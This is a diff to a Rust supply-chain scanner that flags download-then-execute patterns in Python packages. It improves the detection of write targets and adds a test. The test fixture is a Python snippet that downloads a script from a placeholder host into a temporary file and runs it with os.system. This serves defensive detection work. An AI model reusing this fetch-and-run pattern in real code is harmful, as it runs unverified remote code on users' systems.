@@ -58,8 +58,10 @@ fn drops(facts: &Facts) -> Vec<Drop<'_>> {
                 .map(arg_atoms)
                 .unwrap_or_default(),
             _ if matches!(c.method(), "write" | "write_bytes") && c.arg_taint() & NET != 0 => {
-                // The file written to: the nearest earlier `open(path, 'w...')` nearby.
-                facts.calls[..=i]
+                // The file written to: the receiver (`f`, `Path(p)`, `open(p, 'wb')`) and the
+                // path of the nearest earlier `open(path, 'w...')` nearby.
+                let mut atoms = c.recv_atoms.clone();
+                let opened = facts.calls[..=i]
                     .iter()
                     .rev()
                     .filter(|o| o.ctx == c.ctx && c.line.saturating_sub(o.line) <= 15)
@@ -73,7 +75,9 @@ fn drops(facts: &Facts) -> Vec<Drop<'_>> {
                     })
                     .and_then(|o| o.args.first().or_else(|| o.kw("file")))
                     .map(arg_atoms)
-                    .unwrap_or_default()
+                    .unwrap_or_default();
+                atoms.extend(opened);
+                atoms
             }
             _ if c.is_network() && c.kw("stream").is_some() => Vec::new(),
             _ => continue,
@@ -219,6 +223,25 @@ mod tests {
         assert_eq!(
             worst("download-execute", "pkg/__init__.py", src),
             Some(Severity::Medium)
+        );
+    }
+
+    #[test]
+    fn temporary_file_written_then_run_by_name_is_linked() {
+        // psutil's scripts/internal/install_pip.py shape: download into a NamedTemporaryFile
+        // and run `python f.name`.
+        let src = "import os, sys, tempfile\nfrom urllib.request import urlopen\ndef main():\n    with tempfile.NamedTemporaryFile(suffix='.py') as f:\n        data = urlopen('https://example.invalid/get.py').read()\n        f.write(data)\n        f.flush()\n        code = os.system('%s %s --user' % (sys.executable, f.name))\n";
+        assert_eq!(
+            worst("download-execute", "pkg/a.py", src),
+            Some(Severity::High)
+        );
+        assert_eq!(
+            worst(
+                "download-execute",
+                "pkg-1.0/scripts/internal/install_pip.py",
+                src
+            ),
+            Some(Severity::Low)
         );
     }
 }
